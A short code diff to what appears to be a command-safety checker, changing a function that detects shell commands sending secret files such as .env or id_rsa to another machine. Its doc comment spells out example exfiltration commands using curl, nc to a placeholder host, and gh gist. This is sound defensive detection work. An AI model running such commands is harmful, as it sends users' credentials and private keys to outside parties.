@@ -32,13 +32,16 @@ const SENDERS = new Set([
   'transfer',
 ]);
 
-/** Whether a command sends a file of secrets to another machine: `curl -d @.env`, `cat id_rsa | nc host 99`, `gh gist create .env`. */
+/**
+ * Whether a command sends a file of secrets to another machine: `curl -d @.env`, `cat id_rsa | nc host 99`, `gh gist
+ * create .env`.
+ */
 function secretSent(call: RiskyCall): boolean {
   return call.commands.some((command) => {
     const isGist = command.name === 'gh' && command.words[1]?.value === 'gist';
     if (!SENDERS.has(command.name) && !isGist) return false;
     const words = command.words.slice(1).map(({ value }) => value);
-    const namesFile = words.some((word, at) => isSecretFile(word) && !KEEPS_FILE_HERE.has(words[at - 1] ?? ''));
+    const namesFile = words.some((word, index) => isSecretFile(word) && !KEEPS_FILE_HERE.has(words[index - 1] ?? ''));
     return namesFile || (command.pipedFrom?.words.some(({ value }) => isSecretFile(value)) ?? false);
   });
 }
